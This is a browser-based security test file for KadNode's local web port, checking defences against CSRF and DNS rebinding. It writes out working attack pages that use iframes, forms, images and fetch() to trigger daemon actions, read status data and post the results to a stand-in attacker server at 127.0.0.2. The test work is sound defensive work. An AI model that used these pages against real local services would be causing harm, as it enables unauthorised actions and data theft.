// The web port against web pages, in a real headless Chromium: a page on another loopback address
// (127.0.0.2, the attacker's server) tries every way a page can make the browser talk to the daemon on
// 127.0.0.1 (links, forms, images, iframes, fetch() with and without CORS, a relay PUT), and a page on a
// name rebound to 127.0.0.1 (`rebound.test`) tries to read /status, /lookup and /dns-query as its own
// origin. The pages send whatever they could read to the attacker's server. Then kadnode-ctl shows that
// nothing was announced or blacklisted, and the relay that nothing was stored; the attacker got nothing.
// The legitimate paths still work: a URL typed into the browser, curl-like clients.
//
// The rebinding: a real attack serves the page from the attacker's address first, then re-points the
// name to 127.0.0.1. Here the page's document comes from the attacker (playwright fulfils that one URL),
// and Chromium resolves rebound.test to 127.0.0.1 for every other request (--host-resolver-rules), so
// the page's requests reach the daemon from origin http://rebound.test:<web port> with that Host.
// Current Chromium would block such a page itself (Local Network Access, its document has no address and
// counts as public); that check is off here, since other browsers lack it and the daemon must hold alone.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import dnsPacket from 'dns-packet';
import { generateKeyPair, encodeZ32Key } from '../../src/identity/keys.js';
import { encodeDnsPacket, signPacket, toRelayPayload } from '../../src/pkarr/packet.js';
import { emptyPeerFile, pickPorts, sleep, startDaemon, tempDir, type Daemon } from './harness.js';
import { skipUnlessChromium, startChromium, type RunningChromium } from '../helpers/chromium.js';

const ATTACKER = '127.0.0.2';
const REBOUND = 'rebound.test';
const MAX_REPORT = 64 * 1024;

interface Attempt {
  what: string;
  /** false: the browser gave the page nothing (a network or CORS error) */
  read: boolean;
  type?: string;
  status?: number;
  body?: string;
  error?: string;
}

interface Report {
  page: string;
  results: Attempt[];
}

/** The attacker's server: serves the cross-site page and collects what pages send to /report. */
function attackerServer(page: () => string, reports: Report[]): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    if (req.method === 'GET' && req.url === '/attack') {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
      return res.end(page());
    }
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (chunk: string) => (body.length < MAX_REPORT ? (body += chunk) : undefined));
      req.on('end', () => {
        try {
          reports.push(JSON.parse(body) as Report);
        } catch {
          reports.push({ page: 'unparsable report', results: [] });
        }
        res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
        res.end();
      });
      return;
    }
    res.writeHead(404);
    res.end();
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, ATTACKER, () => resolve(server));
  });
}

/**
 * Script shared by both pages: `attempt` records what a request let the page see; the page waits for its
 * frames and images (bounded), then posts everything to the attacker's /report.
 */
function pageScript(name: string, reportUrl: string, body: string): string {
  return `<script>
const results = [];
async function attempt(what, request) {
  try {
    const r = await request();
    results.push({ what, read: true, type: r.type, status: r.status, body: (await r.text()).slice(0, 500) });
  } catch (e) {
    results.push({ what, read: false, error: String(e).slice(0, 200) });
  }
}
const loaded = (el) => new Promise((done) => { el.addEventListener('load', done); el.addEventListener('error', done); setTimeout(done, 5000); });
(async () => {
${body}
  await fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ page: ${JSON.stringify(name)}, results }) });
  document.title = 'reported';
})();
</script>`;
}

/** The cross-site page on http://127.0.0.2:<port>/attack. */
function crossSitePage(web: string, reportUrl: string, relayPath: string, relayPayloadHex: string): string {
  return `<!doctype html><meta charset="utf-8"><title>attack</title>
<iframe name="f1"></iframe><iframe name="f2"></iframe><iframe name="f3"></iframe>
<iframe id="frame" src="${web}/announce?evil-iframe.p2p"></iframe>
<a id="link" href="${web}/announce?evil-link.p2p" target="f1">win a prize</a>
<form id="get" method="GET" action="${web}/announce" target="f2"><input name="evil-form-get.p2p" value=""></form>
<form id="post" method="POST" action="${web}/announce?evil-form-post.p2p" target="f3"><input name="x" value="1"></form>
<img id="img1" src="${web}/announce?evil-img.p2p"><img id="img2" src="${web}/blacklist?10.201.0.66">
${pageScript(
  'cross-site',
  reportUrl,
  `  const frames = ['f1', 'f2', 'f3'].map((n) => loaded(document.getElementsByName(n)[0]));
  document.getElementById('link').click();
  document.getElementById('get').submit();
  document.getElementById('post').submit();
  const web = ${JSON.stringify(web)};
  await attempt('fetch no-cors /announce', () => fetch(web + '/announce?evil-fetch-no-cors.p2p', { mode: 'no-cors' }));
  await attempt('fetch cors /announce', () => fetch(web + '/announce?evil-fetch-cors.p2p'));
  await attempt('fetch no-cors /blacklist', () => fetch(web + '/blacklist?10.201.0.67', { mode: 'no-cors' }));
  await attempt('fetch cors /status', () => fetch(web + '/status'));
  await attempt('fetch no-cors /status', () => fetch(web + '/status', { mode: 'no-cors' }));
  await attempt('fetch cors /lookup', () => fetch(web + '/lookup?own.p2p'));
  await attempt('fetch cors relay PUT', () => fetch(web + ${JSON.stringify(relayPath)}, { method: 'PUT', body: new Uint8Array(${JSON.stringify(relayPayloadHex)}.match(/../g).map((h) => parseInt(h, 16))) }));
  await Promise.all([...frames, loaded(document.getElementById('frame')), loaded(document.getElementById('img1')), loaded(document.getElementById('img2'))]);`,
)}`;
}

/** The page a rebound name serves first; its origin is http://rebound.test:<web port>. */
function reboundPage(reportUrl: string, dohQuery: string): string {
  return `<!doctype html><meta charset="utf-8"><title>rebound</title>
${pageScript(
  'rebound',
  reportUrl,
  `  await attempt('same-origin /status', () => fetch('/status'));
  await attempt('same-origin /lookup', () => fetch('/lookup?own.p2p'));
  await attempt('same-origin /dns-query', () => fetch('/dns-query?dns=${dohQuery}'));
  await attempt('same-origin /announce', () => fetch('/announce?evil-rebound.p2p'));
  await attempt('same-origin /blacklist', () => fetch('/blacklist?10.201.0.68'));`,
)}`;
}

/** One GET with node's http client (sends no Origin, Referer or Sec-Fetch-*), bounded. */
function get(port: number, path: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.get({ host: '127.0.0.1', port, path, headers: { Connection: 'close', ...headers }, timeout: 10_000 }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('timeout', () => req.destroy(new Error(`GET ${path}: no answer in 10 s`)));
    req.on('error', reject);
  });
}

async function waitFor<T>(what: string, timeoutMs: number, probe: () => T | undefined): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = probe();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error(`${what}: not within ${timeoutMs} ms`);
    await sleep(100);
  }
}

describe('web port in a real browser: no CSRF, no DNS rebinding', { skip: skipUnlessChromium(), timeout: 180_000 }, () => {
  let daemon: Daemon;
  let browserRun: RunningChromium | undefined;
  let attacker: http.Server | undefined;
  let dir: ReturnType<typeof tempDir>;
  let cmdPort: number;
  let webPort: number;
  let dhtPort: number;
  let nodeId: string;
  const reports: Report[] = [];
  const relayKey = generateKeyPair();
  const relayPath = `/${encodeZ32Key(relayKey.publicKey)}`;

  const ctl = async (...args: string[]): Promise<string> => {
    const r = await daemon.ctl(cmdPort, args);
    assert.equal(r.code, 0, `kadnode-ctl ${args.join(' ')}: ${r.stderr}`);
    return r.stdout;
  };
  const values = async (): Promise<string> => ctl('list', 'values');

  before(async () => {
    dir = tempDir('kadnode-web-browser');
    [dhtPort, cmdPort, webPort] = (await pickPorts(3)) as [number, number, number];
    daemon = await startDaemon({
      label: 'web-browser',
      args: ['--port', String(dhtPort), '--peerfile', emptyPeerFile(dir.path), '--dns-port', '0', '--cmd-port', String(cmdPort), '--web-port', String(webPort), '--web-addr', '127.0.0.1', '--value-id', 'own.p2p', '--cmd-disable-stdin', '--verbosity', 'debug', '--web-host', 'KadNode.test'],
      stdin: 'ignore',
    });
    nodeId = /DHT id: ([0-9a-f]{40})/.exec(await ctl('status'))![1]!;
    browserRun = await startChromium([
      // rebound.test is 127.0.0.1; every other name fails (the browser reaches nothing but loopback)
      `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE ${ATTACKER}`,
      // a browser without Local Network Access checks (Firefox, Safari, Chromium before 2025, or one whose
      // user allowed it): the daemon, not this browser's own guard, must stop the rebound page
      '--disable-features=LocalNetworkAccessChecks',
    ]);
  });

  after(async () => {
    await browserRun?.close();
    if (attacker) {
      const closed = new Promise<void>((resolve) => attacker!.close(() => resolve()));
      attacker.closeAllConnections();
      await closed;
    }
    await daemon?.stop();
    dir?.remove();
  });

  it('pages on another origin and on a rebound name announce, blacklist, store and read nothing', async (t) => {
    const web = `http://127.0.0.1:${webPort}`;
    const zone = encodeDnsPacket([{ type: 'TXT', name: encodeZ32Key(relayKey.publicKey), ttl: 300, class: 'IN', data: ['evil'] }]);
    const item = signPacket(relayKey.secretKey, zone, Date.now() * 1000);
    let reportUrl = '';
    attacker = await attackerServer(() => crossSitePage(web, reportUrl, relayPath, toRelayPayload(item).toString('hex')), reports);
    const attackerPort = (attacker.address() as { port: number }).port;
    reportUrl = `http://${ATTACKER}:${attackerPort}/report`;
    const context = await browserRun!.browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`http://${ATTACKER}:${attackerPort}/attack`, { timeout: 15_000 });
      await waitFor('the cross-site report', 30_000, () => reports.find((r) => r.page === 'cross-site'));

      const dohQuery = Buffer.from(dnsPacket.encode({ type: 'query', id: 0, flags: dnsPacket.RECURSION_DESIRED, questions: [{ name: 'own.p2p', type: 'A' }] })).toString('base64url');
      const reboundUrl = `http://${REBOUND}:${webPort}/rebind.html`;
      // only the document comes from the attacker; every other request goes to 127.0.0.1 unchanged
      await page.route(reboundUrl, (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: reboundPage(reportUrl, dohQuery) }));
      await page.goto(reboundUrl, { timeout: 15_000 });
      await waitFor('the rebound report', 30_000, () => reports.find((r) => r.page === 'rebound'));
    } finally {
      await context.close().catch(() => undefined);
    }
    // requests still in flight (frames, images) have had the pages' own 5 s bound; a moment more for the daemon
    await sleep(500);

    const crossSite = reports.find((r) => r.page === 'cross-site')!;
    const rebound = reports.find((r) => r.page === 'rebound')!;
    for (const { page, results } of [crossSite, rebound]) {
      for (const a of results) t.diagnostic(`${page}: ${a.what}: ${a.read ? `${a.type} ${a.status} ${JSON.stringify(a.body?.slice(0, 60))}` : a.error}`);
    }
    assert.equal(crossSite.results.length, 7, JSON.stringify(crossSite));
    assert.equal(rebound.results.length, 5, JSON.stringify(rebound));
    const secrets = [nodeId, 'Version:', `:${dhtPort}`, 'own'];
    for (const attempt of [...crossSite.results, ...rebound.results]) {
      for (const secret of secrets) assert.ok(!(attempt.body ?? '').includes(secret), `the page read ${JSON.stringify(secret)}: ${JSON.stringify(attempt)}`);
    }
    // across origins the browser hides every answer (no CORS headers); the relay's refusal is readable
    for (const attempt of crossSite.results) {
      if (attempt.what === 'fetch cors relay PUT') assert.equal(attempt.status, 403, JSON.stringify(attempt));
      else assert.ok(!attempt.read || (attempt.type === 'opaque' && attempt.status === 0 && attempt.body === ''), JSON.stringify(attempt));
    }
    // the rebound name is same-origin to the browser: only the daemon can refuse it
    for (const attempt of rebound.results) assert.equal(attempt.status, 421, `${attempt.what}: ${JSON.stringify(attempt)}`);

    // the browser did send them: iframe, link, GET form, 2 images, 3 fetch() (the POST form gets 405)
    const refused = daemon.stderrLines.filter((l) => /WEB: Refused \/(announce|blacklist) requested by a web page/.test(l));
    assert.ok(refused.length >= 8, `the daemon refused only ${refused.length} page requests:\n${daemon.tail(40)}`);
    const listed = await values();
    assert.doesNotMatch(listed, /evil/, `announced by a page:\n${listed}`);
    assert.match(listed, /\bown\b/);
    assert.match(await ctl('list', 'blacklist'), /\(blacklist: none\)/);
    const stored = await get(webPort, relayPath);
    assert.equal(stored.status, 404, `the page's relay PUT was stored: ${stored.status} ${stored.body}`);
  });

  it('a Referer alone (a browser without Fetch Metadata) is refused; a Host that is not ours gets 421', async () => {
    const referer = await get(webPort, '/announce?referer-only.p2p', { Referer: 'http://evil.example/' });
    assert.equal(referer.status, 403, referer.body);
    const blacklist = await get(webPort, '/blacklist?10.201.0.69', { Referer: 'http://evil.example/' });
    assert.equal(blacklist.status, 403, blacklist.body);
    const rebound = await get(webPort, '/status', { Host: `${REBOUND}:${webPort}` });
    assert.equal(rebound.status, 421, rebound.body);
    assert.doesNotMatch(rebound.body, new RegExp(nodeId));
    assert.doesNotMatch(await values(), /referer-only/);
    assert.match(await ctl('list', 'blacklist'), /\(blacklist: none\)/);
  });

  it('a URL typed into the browser and curl-like clients still work', async () => {
    const context = await browserRun!.browser.newContext();
    try {
      const page = await context.newPage();
      const typed = await page.goto(`http://127.0.0.1:${webPort}/announce?good.p2p`, { timeout: 15_000 });
      assert.equal(typed?.status(), 200, await typed?.text());
      const status = await page.goto(`http://127.0.0.1:${webPort}/status`, { timeout: 15_000 });
      assert.equal(status?.status(), 200);
      assert.match(await status!.text(), new RegExp(`DHT id: ${nodeId}`));
    } finally {
      await context.close().catch(() => undefined);
    }
    const curl = await get(webPort, '/announce?curl.p2p');
    assert.equal(curl.status, 200, curl.body);
    for (const host of [`localhost:${webPort}`, `kadnode.test:${webPort}`]) {
      const named = await get(webPort, '/status', { Host: host });
      assert.equal(named.status, 200, `Host ${host} (kadnode.test is given with --web-host): ${named.body}`);
    }
    const listed = await values();
    assert.match(listed, /\bgood\b/);
    assert.match(listed, /\bcurl\b/);
  });
});
